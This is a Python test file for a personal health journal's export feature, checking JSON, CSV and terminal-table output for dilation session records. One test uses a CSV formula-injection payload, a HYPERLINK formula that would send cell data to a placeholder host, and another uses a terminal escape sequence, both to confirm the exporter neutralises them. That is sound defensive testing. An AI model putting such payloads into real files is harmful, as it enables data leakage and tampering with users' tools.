"""Exports: the same facts as an aligned table, CSV and JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from coach.journal.export import render, to_csv, to_json, to_table
from tests.snapshots.apps.journal_data import program, record

PROG = program()
SESSIONS = [
    record(dt.date(2026, 1, 7), level="size-2", comfort=None, notes='second, "quoted"\nline 2'),
    record(dt.date(2026, 1, 5), comfort=7, active_seconds=754.0),
    record(
        dt.date(2026, 1, 9),
        level="size-2",
        pain_stop=True,
        finished=True,
        completed=False,
        finish_reason="pain",
        checked_in=False,
        comfort=None,
        pain=None,
        bleeding=None,
    ),
    record(dt.date(2026, 1, 10), finished=False, completed=False, bleeding=True, pain=True),
]


def test_json_is_a_list_of_objects_oldest_first() -> None:
    data = json.loads(to_json(SESSIONS, PROG))
    assert [row["date"] for row in data] == ["2026-01-05", "2026-01-07", "2026-01-09", "2026-01-10"]
    first = data[0]
    assert first["started"] == "2026-01-05T09:00:00+01:00"
    assert first["protocol"] == "Dilation session" and first["level"] == "Size 1 (smallest)"
    assert first["active_minutes"] == 12.6 and first["comfort"] == 7
    assert (first["pain"], first["bleeding"], first["finished"]) == (False, False, True)
    assert data[1]["notes"] == 'second, "quoted"\nline 2' and data[1]["comfort"] is None
    assert data[2]["pain_stop"] is True and data[2]["pain"] is None and data[2]["status"] == "pain"
    assert data[3]["finished"] is False and data[3]["status"] == "unfinished"


def test_csv_round_trips_with_the_level_noun_as_header() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(SESSIONS, PROG))))
    assert list(rows[0]) == [
        "date",
        "time",
        "protocol",
        "size",
        "active minutes",
        "comfort",
        "pain",
        "bleeding",
        "finished",
        "status",
        "notes",
    ]
    assert rows[0]["size"] == "Size 1 (smallest)" and rows[0]["active minutes"] == "12.6"
    assert rows[1]["notes"] == 'second, "quoted"\nline 2' and rows[1]["comfort"] == ""
    assert rows[2]["pain"] == "yes" and rows[2]["bleeding"] == "" and rows[2]["finished"] == "yes"
    assert rows[3]["finished"] == "no" and rows[3]["bleeding"] == "yes"


def test_csv_cells_cannot_become_spreadsheet_formulas() -> None:
    evil = record(dt.date(2026, 1, 5), notes='=HYPERLINK("http://x?"&A1)')._replace(
        protocol_title="+cmd"
    )
    row = next(csv.DictReader(io.StringIO(to_csv([evil], PROG))))
    assert row["notes"].startswith("'=") and row["protocol"] == "'+cmd"
    assert json.loads(to_json([evil], PROG))[0]["notes"].startswith("=")  # JSON stays exact


def test_table_is_aligned_and_safe_for_a_terminal() -> None:
    noisy = record(dt.date(2026, 1, 11), notes="\x1b[2J cleared? " + "long " * 20)
    lines = to_table([*SESSIONS, noisy], PROG).splitlines()
    assert lines[0].split() == [
        "Date",
        "Protocol",
        "Size",
        "Min",
        "Comfort",
        "Pain",
        "Bleeding",
        "Finished",
        "Notes",
    ]
    assert set(lines[1]) == {"-", " "}
    assert len(lines) == 2 + 5
    assert lines[2].startswith("2026-01-05 09:00  Dilation session  Size 1 (smallest)")
    assert "\x1b" not in "".join(lines) and "\\x1b[2J cleared?" in lines[-1]
    assert lines[-1].endswith("…")
    # Columns line up: "Min" is right-aligned under its header.
    col = lines[0].index("Min") + len("Min")
    assert lines[2][col - 4 : col] == "12.6"
    assert "stop" in lines[4] and "pain" in lines[4]
    assert "unfinished" in lines[5]


def test_without_a_programme_levels_show_their_ids() -> None:
    data = json.loads(to_json(SESSIONS[:1], None))
    assert data[0]["level"] == "size-2"
    assert to_table(SESSIONS[:1], None).splitlines()[0].split()[2] == "Level"


def test_render_dispatches_and_rejects_unknown_formats() -> None:
    assert render("json", [], PROG) == "[]\n"
    assert render("csv", [], PROG).startswith("date,time,protocol,size")
    with pytest.raises(ValueError):
        render("xml", [], PROG)
